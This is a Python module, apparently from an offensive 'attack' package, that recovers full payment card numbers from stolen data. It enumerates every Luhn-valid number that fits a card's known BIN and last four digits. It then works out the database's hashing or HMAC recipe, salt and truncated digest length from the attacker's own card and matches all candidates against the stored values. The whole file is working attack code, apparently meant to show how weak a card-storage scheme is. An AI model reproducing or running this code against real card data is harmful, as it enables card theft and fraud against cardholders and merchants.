"""Numbers that are tried out: a thief who knows BIN and last four has a thousand tries a card.

The thief is a customer too: with a card of its own it learns how numbers are turned into what is
stored, if there is any way to learn that.
"""

import functools
import hashlib
import hmac
import itertools
from collections.abc import Callable, Iterable, Iterator, Sequence
from typing import NamedTuple

from attack.loot import KnownCard, Loot

# Stored digests are sometimes cut; fewer bytes than these would match by chance.
PREFIX_BYTES = 8
_PLAIN = ("md5", "sha1", "sha224", "sha256", "sha384", "sha512", "sha3_256", "blake2b", "blake2s")
_KEYED = ("md5", "sha1", "sha256", "sha384", "sha512")
_SALTS = ("", "token", "merchant")
_DOUBLED = (0, 2, 4, 6, 8, 1, 3, 5, 7, 9)
_HALVED = {doubled: digit for digit, doubled in enumerate(_DOUBLED)}


class Recipe(NamedTuple):
    """A way from a number to what is stored of it, with a key and a salt in front, or without."""

    name: str
    key: bytes | None
    salt: str

    def maker(self, card: KnownCard) -> Callable[[bytes], bytes]:
        """What makes of a number what may be stored of it, or the beginning of that."""
        salt = {"": b"", "token": card.token, "merchant": b"%d" % card.merchant_id}[self.salt]
        name, key, plain = self.name, self.key, getattr(hashlib, self.name)
        if key is not None:
            return lambda text: hmac.digest(key, salt + text, name)
        if salt:
            return lambda text: plain(salt + text).digest()
        return lambda text: plain(text).digest()


def candidates(card: KnownCard) -> list[bytes]:
    """Every valid number that has the digits known of a card: a thousand, or ten thousand."""
    length = 15 if card.bin.startswith(("34", "37")) else 16
    unknown = length - len(card.bin) - len(card.last4)
    if unknown <= 0:
        return [(card.bin + card.last4[-length + len(card.bin) :]).encode()]
    is_doubled = len(card.last4) % 2 == 1
    last4_sum = _luhn_sum(card.last4)
    # By the sum of what stands before: the missing digit, and what follows it.
    tails = [
        f"{_HALVED[needed] if is_doubled else needed}{card.last4}".encode()
        for needed in (-(head_sum + last4_sum) % 10 for head_sum in range(10))
    ]
    return [head + tails[head_sum] for head, head_sum in _heads(card.bin, unknown - 1, length)]


@functools.cache
def _heads(bin: str, unknown: int, length: int) -> list[tuple[bytes, int]]:
    """All ways to go on from a BIN, and what each adds to the sum of the check."""
    middles = map("".join, itertools.product("0123456789", repeat=unknown))
    padding = "0" * (length - len(bin) - unknown)
    return [((bin + middle).encode(), _luhn_sum(bin + middle + padding) % 10) for middle in middles]


def _luhn_sum(digits: str) -> int:
    """Every second digit from the right doubled (ISO/IEC 7812-1, annex B)."""
    total = 0
    for at, digit in enumerate(reversed(digits)):
        value = int(digit)
        total += _DOUBLED[value] if at % 2 else value
    return total


def guess(loot: Loot, own_pan: str) -> set[str]:
    """Every number that some recipe finds among what is stored."""
    known = loot.cards
    prefixes = {value[:PREFIX_BYTES] for value in loot.stored_values()}
    own = [card for card in known if own_pan.startswith(card.bin) and own_pan.endswith(card.last4)]
    found: set[str] = set()
    for recipe in _recipes(loot.possible_keys()):
        if any(recipe.maker(card)(own_pan.encode())[:PREFIX_BYTES] in prefixes for card in own):
            found.update(_apply(recipe, known, prefixes))
    return found


def merely_known(cards: Sequence[KnownCard]) -> set[str]:
    """Numbers of which so many digits are shown that hardly one can be meant."""
    found: set[str] = set()
    for card in cards:
        length = 15 if card.bin.startswith(("34", "37")) else 16
        if length - len(card.bin) - len(card.last4) <= 1:
            found.update(number.decode() for number in candidates(card))
    return found


def _recipes(keys: Iterable[bytes]) -> Iterator[Recipe]:
    for name, salt in itertools.product(_PLAIN, _SALTS):
        yield Recipe(name, None, salt)
    for key, name, salt in itertools.product(keys, _KEYED, _SALTS):
        yield Recipe(name, key, salt)


def _apply(recipe: Recipe, known: Sequence[KnownCard], prefixes: set[bytes]) -> Iterator[str]:
    """Numbers whose digest is stored somewhere; a card whose own row has it is done with."""
    for card in known:
        make = recipe.maker(card)
        own = {
            value[:PREFIX_BYTES]
            for value in card.row.values()
            if isinstance(value, bytes) and len(value) >= PREFIX_BYTES
        }
        for number in candidates(card):
            prefix = make(number)[:PREFIX_BYTES]
            if prefix in prefixes:
                yield number.decode()
                if prefix in own:
                    break
